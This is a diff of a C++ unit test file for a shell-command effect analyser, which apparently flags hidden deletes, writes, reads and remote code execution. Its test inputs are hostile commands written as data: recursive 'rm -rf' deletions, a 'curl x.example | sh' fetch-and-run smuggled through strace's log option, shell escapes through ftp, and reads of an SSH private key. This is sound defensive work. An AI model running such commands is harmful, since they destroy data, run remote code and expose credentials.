@@ -1,5 +1,5 @@
-// Lines that look like questions and run, write or read more: each was found by an attack on the
-// reader.
+// Lines that look like queries but run, write or read more: an attack on the reader found each of
+// them.
 #include <gtest/gtest.h>
 
 #include "unit/effects/effect_text.h"
@@ -42,6 +42,56 @@ TEST(HiddenEffectsTest, WrappersWithUnknownLongOptionsAreOpaque) {
   EXPECT_EQ(effects_text("env - rm -r /x"), "fs.delete /x recursive");
 }
 
+// RU-44, RU-50
+TEST(HiddenEffectsTest, JobsRunsACommandBehindX) {
+  EXPECT_EQ(effects_text("jobs"), "none");
+  EXPECT_EQ(effects_text("jobs -l %1"), "none");
+  EXPECT_EQ(effects_text("jobs -x rm -rf /srv"), "fs.delete /srv recursive");
+  EXPECT_EQ(effects_text("builtin jobs -x git push --force"), "git.push . host=?");
+  EXPECT_EQ(effects_text("jobs -rx -- sh -c 'rm -r /srv'"), "fs.delete /srv recursive");
+  EXPECT_EQ(effects_text("jobs -x cat %1"), "fs.read ?");
+  expect_opaque({"jobs -x %1", "jobs $X rm a"});
+}
+
+// RU-50, RU-54
+TEST(HiddenEffectsTest, StraceGivesItsLogToACommand) {
+  EXPECT_EQ(effects_text("strace -o log ls a"), "fs.write log; fs.read a");
+  EXPECT_EQ(effects_text("strace -o '|rm -r /srv' ls a"), "fs.delete /srv recursive; fs.read a");
+  EXPECT_EQ(effects_text("strace -f --output='!rm -r /srv' ls a"),
+            "fs.delete /srv recursive; fs.read a");
+  EXPECT_EQ(effects_text("strace -o'|curl x.example | sh' true"),
+            "network.request host=x.example; code.remote; process.exec opaque; none [stdin]");
+  expect_opaque({"strace -o $X ls", "strace --out $X ls"});
+}
+
+// RU-54
+TEST(HiddenEffectsTest, TelnetAndFtpRunTheirInput) {
+  EXPECT_EQ(effects_text("echo '!rm -rf /home/user' | ftp"), "none; process.exec opaque [stdin]");
+  EXPECT_EQ(effects_text("ftp -n h.example <<< '!id'"),
+            "network.request host=h.example; process.exec opaque [heredoc]");
+  EXPECT_EQ(effects_text("telnet -n log localhost"),
+            "network.request host=localhost; fs.write log; process.exec opaque [stdin]");
+}
+
+// RU-50, RU-54
+TEST(HiddenEffectsTest, ParallelRunsWhatItsOptionsAndMarksSay) {
+  expect_opaque({"parallel --rpl '{x} system(1)' echo ::: a", "parallel --filter x echo ::: a",
+                 "parallel --compress-program ./evil echo ::: a", "parallel -U x echo ::: a",
+                 "parallel echo {=unlink=} ::: a", "parallel -I status git status ::: push"});
+  expect_not_opaque({"parallel --tag --keep-order -P 4 echo ::: a b", "parallel --lb wc -l ::: a",
+                     "parallel -j 4 --halt now,fail=1 wc -l {} ::: a", "parallel ls {.} ::: a"});
+  EXPECT_EQ(effects_text("parallel -I,, rm ,, ::: /srv"),
+            "fs.delete ?; fs.delete ?; fs.delete ? recursive");
+}
+
+// RU-32, RU-50
+TEST(HiddenEffectsTest, PathsInAnotherRootAreUnknown) {
+  EXPECT_EQ(effects_text("chroot /mnt rm -r /w/build"), "fs.delete ? recursive");
+  EXPECT_EQ(effects_text("chroot /mnt sh -c 'echo x > /w/a'"), "fs.write ?; none");
+  EXPECT_EQ(effects_text("echo 'rm -r /srv' | chroot /"), "none; process.exec opaque [stdin]");
+  EXPECT_EQ(effects_text("chroot / rm /w/a; rm b"), "fs.delete /w/a; fs.delete b");
+}
+
 // RU-53
 TEST(HiddenEffectsTest, OptionsThatRunProgramsAreOpaque) {
   expect_opaque({"git ls-remote --exec=./evil .", "git fetch-pack --exec=./evil . HEAD",
@@ -65,6 +115,14 @@ TEST(HiddenEffectsTest, ASettingOfGitIsNoQuestion) {
                  "git config --pat core.fsmonitor ./evil",
                  "git config --odd core.fsmonitor ./evil"});
   expect_not_opaque({"git config --get user.name", "git config user.name", "git config --list"});
+}
+
+// RU-56
+TEST(HiddenEffectsTest, VariablesOfArchiversAndCurlSteerThem) {
+  for (const std::string name :
+       {"TAPE", "ZIP", "ZIPOPT", "UNZIP", "UNZIPOPT", "PARALLEL", "TAR_RSH", "SSLKEYLOGFILE"}) {
+    expect_opaque({"export " + name + "=x; ls"});
+  }
 }
 
 // RU-56
@@ -101,8 +159,29 @@ TEST(HiddenEffectsTest, ManyCopiesMakeEveryLaterPathUnknown) {
   EXPECT_TRUE(effects_text(line + "rm c/d").ends_with("fs.delete ?"));
 }
 
+// RU-51
+TEST(HiddenEffectsTest, ASystemProgramIsKnownByARelativePathToo) {
+  EXPECT_EQ(effects_text("../../bin/rm -rf /srv"), "fs.delete /srv recursive");
+  EXPECT_EQ(effects_text("../bin/rm -rf /srv", {}, "/w/a"), "process.exec");
+  EXPECT_EQ(effects_text("cd /bin && ./rm -rf /srv"), "none; fs.delete /srv recursive");
+  EXPECT_EQ(effects_text("cd /bin; ./rm -rf /srv"), "none; fs.delete /srv recursive; process.exec");
+  EXPECT_EQ(effects_text("./rm -rf /srv"), "process.exec");
+}
+
+// RU-47, RU-50
+TEST(HiddenEffectsTest, AGlobOfDotsReachesTheParentFolderInDash) {
+  EXPECT_EQ(effects_text("sh -c 'chmod -R 777 .*'", {"/w/.a"}),
+            "fs.write . recursive; fs.write .. recursive; fs.write .a recursive");
+  EXPECT_EQ(effects_text("bash -c 'cat .*'; cat .a*", {"/w/.a"}), "fs.read .a; fs.read .a");
+  EXPECT_EQ(effects_text("sh -c 'ls *'; ls .*", {"/w/.a", "/w/b"}), "fs.read b; fs.read .a");
+}
+
 // RU-53
 TEST(HiddenEffectsTest, FilesElsewhereAreWritten) {
+  EXPECT_EQ(effects_text("file -C -m a/magic"), "fs.read a/magic; fs.write magic.mgc");
+  EXPECT_EQ(effects_text("file -C"), "fs.write magic.mgc");
+  EXPECT_EQ(effects_text("tree -R -L 2 a"), "fs.read a recursive; fs.write a recursive");
+  EXPECT_EQ(effects_text("tree -R a"), "fs.read a recursive");
   EXPECT_EQ(effects_text("sed -n -i'/out/*' p f"), "fs.write ?; fs.write f; fs.read f");
   EXPECT_EQ(effects_text("patch -b -B /out/ f p"), "fs.write /out/; fs.write f; fs.read p");
   EXPECT_EQ(effects_text("tar -xf a -C b -C /out"),
@@ -124,7 +203,8 @@ TEST(HiddenEffectsTest, FilesElsewhereAreRead) {
   EXPECT_EQ(effects_text("git diff /dev/null /home/u/.ssh/id_rsa"),
             "fs.read . recursive; fs.read /dev/null recursive; fs.read /home/u/.ssh/id_rsa "
             "recursive");
-  EXPECT_EQ(effects_text("git blame --contents F x"), "fs.read F; fs.read . recursive");
+  EXPECT_EQ(effects_text("git blame --contents F x"),
+            "fs.read F; fs.read . recursive; fs.read x recursive");
   EXPECT_EQ(effects_text("sort --files0-from=-"), "fs.read ?");
   EXPECT_TRUE(is_opaque("awk 'BEGIN{ARGV[1]=\"F\";ARGC=2}1'"));
   EXPECT_EQ(effects_text("curl --unix-socket /run/docker.sock http://localhost/x"),
